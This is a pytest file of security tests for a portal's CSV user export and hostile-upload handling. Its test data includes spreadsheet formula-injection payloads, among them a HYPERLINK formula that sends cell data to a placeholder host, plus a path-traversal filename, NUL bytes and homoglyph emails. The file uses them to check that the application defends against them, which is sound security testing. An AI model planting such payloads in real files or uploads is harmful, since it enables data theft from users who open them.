"""D. CSV export and E. hostile CSV uploads (SECURITY-CHECKLIST T16–T25).

Through the pages (upload, preview, export) and the preview service; tests/services/
test_csv_import.py and tests/web/test_csv.py hold the finer cases.
"""
import csv
import io
import re
from datetime import date

import pytest
import sqlalchemy as sa

from portal.extensions import db
from portal.models import AuditEvent
from portal.models import ImportJob
from portal.models import User
from portal.services import csv_check
from portal.services.errors import ServiceError
from tests import builders
from tests.builders import csv_bytes
from tests.security.conftest import GROUPS
from tests.security.conftest import HX
from tests.security.conftest import TASKSTREAMS
from tests.security.conftest import USERS

FORMULAS = ("=1+2", "+1+2", "-1+2", "@SUM(A1)", "|cmd", "%0A", "a,=1+2", 'x";=1+2',
            '=HYPERLINK("http://x/?"&A1)')
RAW_LEADS = ("\t=1+2", "\r=1+2", "\n=1+2", " =1+2")  # only old data or a raw write holds these


def upload(client, data: bytes, filename: str = "people.csv", mimetype: str = "text/csv"):
    return client.post(f"{USERS}/import", data={"file": (io.BytesIO(data), filename, mimetype)},
                       content_type="multipart/form-data")


def jobs() -> int:
    db.session.commit()
    return db.session.scalar(sa.select(sa.func.count()).select_from(ImportJob))


def preview(account, rows, **kwargs) -> csv_check.Preview:
    data = rows if isinstance(rows, bytes) else csv_bytes(rows, **kwargs)
    return csv_check.preview_csv(account.admin, data)


def test_t16_formula_cells_are_quoted_with_a_leading_apostrophe_and_read_back_unchanged(
        admin, account):
    emails = {}
    for n, name in enumerate(FORMULAS):
        email = f"f{n}@example.com"
        response = admin.post(f"{USERS}/new", data={"name": name, "email": email,
                                                    "role": "member"})
        assert response.status_code == 302, (name, response.get_data(as_text=True)[:300])
        emails[email] = name
    for n, name in enumerate(RAW_LEADS):
        member = builders.make_user(account, name=f"Raw {n}", email=f"r{n}@example.com")
        db.session.execute(sa.update(User).where(User.id == member.user_id).values(name=name))
        emails[f"r{n}@example.com"] = name
    db.session.commit()
    group = admin.post(f"{GROUPS}/new", data={"name": "=Group"})
    assert group.status_code == 302
    raw = admin.get(f"{USERS}/export").get_data(as_text=True)
    assert raw.startswith("\ufeff") or raw.startswith("Full Name")
    rows = {row[1]: row[0] for row in csv.reader(io.StringIO(raw.lstrip("\ufeff"), newline=""))}
    for email, name in emails.items():
        assert rows[email] == "'" + name, name
        # RFC 4180: the cell is quoted wherever it holds a separator, quote or line break.
    assert '"\'a,=1+2"' in raw and '"\'x"";=1+2"' in raw
    back = preview(builders.make_account(), raw.encode("utf-8"))
    names = {row.email: row.name for row in back.rows}
    for email, name in emails.items():
        if email.startswith("f"):
            assert names[email] == name, name


def test_t17_the_export_is_an_attachment_named_by_the_server_and_audited(admin, account):
    gone = builders.make_user(account, name="Gone Person")
    builders.delete_users(account, gone)
    other = builders.make_account()
    builders.make_user(other, name="Other Account Person")
    before = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(
        AuditEvent.action == "users.exported"))
    response = admin.get(f"{USERS}/export")
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    disposition = response.headers["Content-Disposition"]
    name = re.search(r'filename="?([^";]+)"?', disposition).group(1)
    assert disposition.startswith("attachment;")
    assert name == f"users-{account.name.lower().replace(' ', '-')}-{date.today().isoformat()}.csv"
    text = response.get_data(as_text=True)
    assert "Gone Person" not in text and "Other Account Person" not in text
    deleted = admin.get(f"{USERS}/export?include_deleted=1").get_data(as_text=True)
    assert "Gone Person" in deleted and "Other Account Person" not in deleted
    after = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(
        AuditEvent.action == "users.exported"))
    assert after == before + 2


def test_t18_encodings_decode_once_or_the_file_is_refused(admin, account):
    rows = [("Zoë Ørsted", "zoe@example.com", "")]
    for data in (csv_bytes(rows, encoding="utf-8-sig"), csv_bytes(rows, encoding="utf-16"),
                 csv_bytes(rows, encoding="cp1252")):
        result = preview(account, data)
        assert "email" in [c.lower() for c in result.columns], result.columns
        assert [(r.name, r.email) for r in result.rows] == [("Zoë Ørsted", "zoe@example.com")]
    mixed = b"Full Name,Email\r\nAna,ana@example.com\nBen,ben@example.com\rCy,cy@example.com\r\n"
    result = preview(account, mixed)
    assert [r.email for r in result.rows] == ["ana@example.com", "ben@example.com",
                                              "cy@example.com"]
    response = upload(admin, csv_bytes(rows, encoding="utf-16"))
    assert response.status_code == 302
    assert "Zoë Ørsted" in admin.get(response.headers["Location"]).get_data(as_text=True)


@pytest.mark.config(MAX_CONTENT_LENGTH=100_000, IMPORT_MAX_ROWS=50)
def test_t19_size_row_and_part_limits_are_clear_refusals(admin, account):
    over = b"Full Name,Email\n" + b"x" * 100_000
    response = upload(admin, over)
    assert response.status_code == 413 and "larger than" in response.get_data(as_text=True)
    exact = csv_bytes([(f"P{n}", f"p{n}@example.com", "") for n in range(50)])
    assert upload(admin, exact).status_code == 302
    one_more = csv_bytes([(f"P{n}", f"p{n}@example.com", "") for n in range(51)])
    response = upload(admin, one_more)
    assert response.status_code == 422 and "50" in response.get_data(as_text=True)
    fields = {f"f{n}": "x" for n in range(2000)}
    fields["file"] = (io.BytesIO(exact), "x.csv")
    flood = admin.post(f"{USERS}/import", data=fields, content_type="multipart/form-data")
    assert flood.status_code == 413
    assert jobs() == 1


def test_t20_a_huge_field_or_line_is_422_with_its_line(admin, account):
    field = csv_bytes([("Ana", "ana@example.com", ""), ("B" * 200_000, "b@example.com", "")])
    response = upload(admin, field)
    assert response.status_code == 422
    assert re.search(r"line 3\b", response.get_data(as_text=True), re.IGNORECASE)
    assert jobs() == 0
    with pytest.raises(ServiceError, match=r"(?i)line 2"):  # what the page shows with 422
        csv_check.preview_csv(account.admin, b"Full Name,Email\n" + b"a" * 5_000_000)


def test_t21_wrong_delimiters_and_structures_are_read_or_named_and_nothing_is_written(
        admin, account):
    rows = [("Ana", "ana@example.com", "")]
    for delimiter in (";", "\t"):
        assert [r.email for r in preview(account, rows, delimiter=delimiter).rows] == [
            "ana@example.com"]
    for header, message in ((("Full Name", "Phone"), "email"),
                            (("Email", "Email"), "appears twice")):
        response = upload(admin, csv_bytes([("a", "b")], header=header))
        assert response.status_code == 422, header
        assert message in response.get_data(as_text=True).lower(), header
    extra = preview(account, [("Ana", "ana@example.com", "", "admin")],
                    header=("Full Name", "Email", "Groups", "role"))
    assert extra.ignored == ["role"] and extra.rows[0].status == csv_check.NEW
    ragged = preview(account, b"Full Name,Email\nAna,ana@example.com\nBen\n"
                              b"Cy,cy@example.com,x,y,z\n")
    statuses = {r.line: r.status for r in ragged.rows}
    assert statuses[2] == csv_check.NEW and csv_check.INVALID in (statuses[3], statuses.get(4))
    users_before = db.session.scalar(sa.select(sa.func.count()).select_from(User))
    assert upload(admin, csv_bytes(rows)).status_code == 302
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User)) == users_before


def test_t22_broken_quoting_is_refused_and_quoted_newlines_are_kept(admin, account):
    broken = b'Full Name,Email\na,"unterminated\n' + b"x,x@example.com\n" * 10_000
    response = upload(admin, broken)
    assert response.status_code == 422
    assert jobs() == 0
    quoted = preview(account, b'Full Name,Email,Groups\n"Ana\nLine",ana@example.com,\n')
    assert [r.email for r in quoted.rows] == ["ana@example.com"]


def test_t23_nul_and_control_characters_are_refused_in_csv_cells_and_forms(admin, account):
    result = preview(account, [("Bob\x00", "bob@example.com", ""),
                               ("Ali", "ali\x00ce@example.com", ""),
                               ("Ok", "ok@example.com", "")])
    assert [r.status for r in result.rows] == [csv_check.INVALID, csv_check.INVALID,
                                               csv_check.NEW]
    users_before = db.session.scalar(sa.select(sa.func.count()).select_from(User))
    for url, data in ((f"{USERS}/new", {"name": "Bob\x00", "email": "bob@example.com",
                                        "role": "member"}),
                      (f"{USERS}/new", {"name": "Bob", "email": "ali\x00ce@example.com",
                                        "role": "member"}),
                      (f"{GROUPS}/new", {"name": "Group\x00"}),
                      (f"{TASKSTREAMS}/", {"name": "Stream\x00"})):
        response = admin.post(url, data=data, headers=HX)
        assert response.status_code == 422, (url, data)
    db.session.commit()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(User)) == users_before
    assert "\x00" not in admin.get(f"{GROUPS}/").get_data(as_text=True)


def test_t24_one_canonical_key_per_address_and_look_alikes_flagged(account):
    other = builders.make_account()
    builders.make_user(other, name="Elsewhere", email="elsewhere@example.com")
    builders.make_user(account, name="Here", email="here@example.com")
    nfd = "Alice".replace("A", "A") + "\u0301@example.com"  # a combining mark in the local part
    result = preview(account, [
        ("Alice 1", "Alice@Example.com", ""), ("Alice 2", "alice@example.com", ""),
        ("Alice 3", "alice@EXAMPLE.COM", ""), ("Full", "alice\uff20example.com", ""),
        ("Cyril", "\u0430lice@example.com", ""), ("Here", "here@example.com", ""),
        ("Elsewhere", "elsewhere@example.com", ""), ("Nfd", nfd, ""),
    ])
    by_line = {r.line: r for r in result.rows}
    assert by_line[2].status == csv_check.NEW
    assert by_line[3].status != csv_check.NEW and by_line[4].status != csv_check.NEW
    assert by_line[5].status == csv_check.INVALID  # the fullwidth @ is no address
    assert by_line[6].status == csv_check.NEW and by_line[6].note  # Cyrillic: flagged
    assert by_line[7].status == csv_check.SKIP
    elsewhere = by_line[8]
    assert "Elsewhere" not in (elsewhere.note + elsewhere.reason)
    assert other.name not in (elsewhere.note + elsewhere.reason)


def test_t25_upload_names_and_types_are_never_trusted(admin):
    data = csv_bytes([("Ana", "ana@example.com", "")])
    response = upload(admin, data, filename="../../x.csv.html", mimetype="text/html")
    assert response.status_code == 302
    job = db.session.scalars(sa.select(ImportJob)).one()
    assert "/" not in job.filename and ".." not in job.filename and job.data == data
    page = admin.get(response.headers["Location"]).get_data(as_text=True)
    assert "../../" not in page
    for blob, name in ((b"\x89PNG\r\n\x1a\n" + bytes(100), "x.csv"),
                       (b"PK\x03\x04" + bytes(100), "x.csv"),
                       (b"%PDF-1.7\n" + bytes(100), "x.csv"),
                       (bytes(range(256)) * 4, "x.csv")):
        refused = upload(admin, blob, filename=name)
        assert refused.status_code == 422, name
    assert jobs() == 1
